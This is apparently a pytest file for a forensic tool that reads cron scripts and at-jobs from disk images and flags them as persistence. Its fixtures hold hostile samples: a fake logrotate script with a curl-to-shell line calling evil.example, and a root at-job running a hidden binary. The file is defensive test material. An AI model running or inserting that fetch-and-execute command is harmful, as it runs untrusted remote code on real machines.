"""Scripts that start by their place."""

from __future__ import annotations

import pytest
from tests.evidence.artefact_kit import read_member, shows_control

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.cron_scripts import CronScripts
from nachsorge.model.words import Kind, Reason, Status, Telemetry

READER = CronScripts()
SCRIPT = b"#!/bin/sh\n# rotates\n/usr/bin/curl -s \\\n  http://evil.example/x | sh\n/opt/.x/evil --all\n"
AT = (
    b"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\ncd /root || {\n"
    b'\t echo "Execution directory inaccessible" >&2\n\t exit 1\n}\n/tmp/.cache/evil\n'
)
DUE = 1_680_000_000 // 60 * 60


@pytest.mark.parametrize("folder", ["hourly", "daily", "weekly", "monthly"])
def test_a_script_of_a_period(folder: str):
    name = f"img/etc/cron.{folder}/logrotate"
    found = reader_for(SCRIPT, name)
    assert found is not None and found.name == "cron_scripts"
    (record,), reading = read_member(READER, SCRIPT, name)
    assert (record.telemetry, record.event["when"], record.event["path"]) == (Telemetry.PERSISTENCE, folder, name)
    shown = {(value.kind, value.text) for value in record.values}
    assert {(Kind.PATH, "/usr/bin/curl"), (Kind.PATH, "/opt/.x/evil"), (Kind.PATH, name)} <= shown
    assert (Kind.TEXT, "/usr/bin/curl -s    http://evil.example/x | sh") in shown
    assert (reading.status, reading.records) == (Status.READ, 1) and all(not seen.spans for seen in reading.seen)


def test_a_job_of_at_says_when_it_is_due():
    name = f"img/var/spool/cron/atjobs/a0000a{DUE // 60:08x}"
    found = reader_for(AT, name)
    assert found is not None and found.name == "cron_scripts"
    (record,), _ = read_member(READER, AT, name)
    assert (record.event["when"], record.event["due"]) == ("once", "2023-03-28T10:40:00Z")
    assert (Kind.PATH, "/tmp/.cache/evil") in {(value.kind, value.text) for value in record.values}


def test_elsewhere_a_script_is_text():
    assert READER.accepts(SCRIPT, "img/usr/local/bin/x.sh") == 0
    assert READER.accepts(b"\x7fELF\0\0", "img/etc/cron.daily/x") == 0
    assert READER.accepts(b" \n", "img/etc/cron.daily/x") == 0


def test_a_hostile_script_stays_small_and_damage_is_borne():
    many = b"".join(b"/opt/%d\n" % number for number in range(5000))
    (record,), _ = read_member(READER, many, "etc/cron.daily/x")
    assert sum(1 for value in record.values if value.kind is Kind.PATH) <= 201
    assert sum(1 for value in record.values if value.kind is Kind.TEXT) == 5000
    for cut in range(len(SCRIPT)):
        assert read_member(READER, SCRIPT[:cut], "etc/cron.daily/x")[1].reason is not Reason.FAILED
    _, reading = read_member(READER, b"#" * (5 * 2**20), "etc/cron.daily/x")
    assert reading.reason is Reason.LIMIT
    shows_control(READER)
